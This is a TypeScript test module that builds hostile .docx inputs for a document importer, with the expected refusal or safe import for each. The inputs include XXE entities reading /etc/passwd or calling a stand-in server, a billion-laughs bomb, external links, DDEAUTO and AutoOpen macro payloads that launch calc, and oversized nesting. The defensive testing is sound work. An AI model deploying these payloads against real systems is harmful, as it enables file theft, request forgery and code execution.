import { cell, p, rawDocx, row, t, table } from '#lib/documents/testing/raw-docx.ts'
import { zip } from '#lib/documents/testing/write-zip.ts'
import { docxBody, docxForm } from './form.ts'
import { type Hostile, imported, refused } from './hostile.ts'

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
const ANYTHING = [
  'damaged',
  'empty',
  'not-a-form',
  'too-large',
  'timed-out',
  'out-of-memory',
] as const

/** A Word file whose document opens as given: with a document type of somebody's own, say. */
function withProlog(prolog: string, body: string): Uint8Array {
  return zip([
    { name: '[Content_Types].xml', content: TYPES },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?>${prolog}<w:document ${WORD}><w:body>${body}</w:body></w:document>`,
    },
  ])
}

/** Ten entities, each ten times the one before. */
function laughs(): string {
  const lines = Array.from({ length: 10 }, (_, index) => {
    const before = index === 0 ? 'ha' : `&l${index - 1};`.repeat(10)
    return `<!ENTITY l${index} "${before}">`
  })
  return `<!DOCTYPE w:document [${lines.join('')}]>`
}

/** Relationships that name other machines: pictures, a template, a frame, a linked object. */
function outside(address: string): string {
  const kinds = ['image', 'attachedTemplate', 'frame', 'oleObject', 'hyperlink', 'subDocument']
  return kinds
    .map(
      (kind, index) =>
        `<Relationship Id="x${index}" Type="${OFFICE}/${kind}" Target="${address}/${kind}" TargetMode="External"/>`,
    )
    .join('')
}

const PICTURE =
  '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="x0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'

/** `address` is a server that counts who comes: nobody may. */
export function markup(address: string): Hostile[] {
  return [
    {
      what: 'an entity that reads a file of the machine',
      filename: 'xxe.docx',
      bytes: (cycle) =>
        withProlog(
          '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
          docxBody(cycle).replace('Opened', 'Opened &e; '),
        ),
      expected: refused('damaged'),
    },
    {
      what: 'an entity that asks another machine',
      filename: 'xxe-net.docx',
      bytes: (cycle) =>
        withProlog(
          `<!DOCTYPE w:document SYSTEM "${address}/dtd" [<!ENTITY % p SYSTEM "${address}/p"> %p; <!ENTITY e SYSTEM "${address}/e">]>`,
          docxBody(cycle).replace('Opened', 'Opened &e; '),
        ),
      expected: refused('damaged'),
    },
    {
      what: 'a billion laughs',
      filename: 'laughs.docx',
      bytes: (cycle) => withProlog(laughs(), docxBody(cycle).replace('Opened', 'Opened &l9; ')),
      expected: refused('damaged'),
    },
    {
      what: 'a document type that stands on another machine',
      filename: 'dtd.docx',
      bytes: (cycle) =>
        withProlog(`<!DOCTYPE w:document SYSTEM "${address}/dtd">`, docxBody(cycle)),
      expected: imported(),
      said: 'Opened a counter in every town.',
    },
    {
      what: 'pictures, a template and objects on another machine',
      filename: 'links.docx',
      bytes: (cycle) => rawDocx(docxBody(cycle) + PICTURE, { relations: outside(address) }),
      expected: imported(),
    },
    {
      what: 'fields that fetch and run',
      filename: 'fields.docx',
      bytes: (cycle) =>
        rawDocx(
          `${docxBody(cycle)}<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;${address}/field&quot;"><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      expected: imported(),
      never: /DDEAUTO|calc/,
    },
    {
      what: 'macros',
      filename: 'macros.docm',
      bytes: (cycle) =>
        docxForm(cycle, {
          parts: [
            { name: 'word/vbaProject.bin', content: 'Sub AutoOpen()\nShell "calc"\nEnd Sub' },
          ],
        }),
      expected: imported(),
      never: /AutoOpen/,
    },
    {
      what: 'an embedded program',
      filename: 'object.docx',
      bytes: (cycle) =>
        docxForm(cycle, {
          parts: [{ name: 'word/embeddings/oleObject1.bin', content: 'MZ\u0090' }],
        }),
      expected: imported(),
    },
    {
      what: 'a hundred thousand tags inside one another',
      filename: 'deep.docx',
      bytes: (cycle) =>
        rawDocx(docxBody(cycle) + '<w:sdt>'.repeat(100_000) + '</w:sdt>'.repeat(100_000)),
      expected: refused([...ANYTHING]),
    },
    {
      what: 'three thousand tables inside one another',
      filename: 'tables.docx',
      bytes: (cycle) =>
        rawDocx(
          docxBody(cycle) +
            '<w:tbl><w:tr><w:tc>'.repeat(3000) +
            p(t('deep')) +
            '</w:tc></w:tr></w:tbl>'.repeat(3000),
        ),
      expected: refused([...ANYTHING]),
    },
    {
      what: 'one cell of three million letters',
      filename: 'cell.docx',
      bytes: () =>
        rawDocx(table(row(cell(p(t('1. Priorities'))), cell(p(t('a '.repeat(1_500_000))))))),
      expected: refused(['too-large', 'timed-out']),
    },
    {
      what: 'a million empty paragraphs',
      isHeavy: true,
      filename: 'paragraphs.docx',
      bytes: (cycle) => rawDocx(docxBody(cycle) + '<w:p/>'.repeat(1_000_000)),
      expected: refused([...ANYTHING]),
    },
    {
      what: 'a document of 13 MB',
      isHeavy: true,
      filename: 'long.docx',
      bytes: () => rawDocx(p(t('word '.repeat(2_600_000)))),
      expected: refused('too-large'),
    },
    {
      what: 'a cell that spans two billion columns',
      filename: 'span.docx',
      bytes: (cycle) =>
        rawDocx(
          docxBody(cycle) +
            table(
              row(
                cell(p(t('a')), '<w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/>'),
                cell(p(t('b')), '<w:gridSpan w:val="-5"/>'),
              ),
            ),
        ),
      expected: imported(),
    },
    {
      what: 'a list level of a billion and an indent without end',
      filename: 'level.docx',
      bytes: (cycle) =>
        rawDocx(
          `${docxBody(cycle)}<w:p><w:pPr><w:numPr><w:ilvl w:val="1000000000"/><w:numId w:val="7"/></w:numPr><w:ind w:left="1e308"/></w:pPr>${t('Far to the right.')}</w:p>`,
        ),
      expected: imported(),
    },
    {
      what: 'headers of two million tags',
      isHeavy: true,
      filename: 'header.docx',
      bytes: (cycle) => docxForm(cycle, { header: '<w:del '.repeat(400_000) }),
      expected: refused([...ANYTHING]),
    },
    {
      what: 'a style that is based on itself',
      filename: 'style.docx',
      bytes: (cycle) =>
        docxForm(cycle, {
          styles:
            '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style>',
        }),
      expected: imported(),
    },
  ]
}
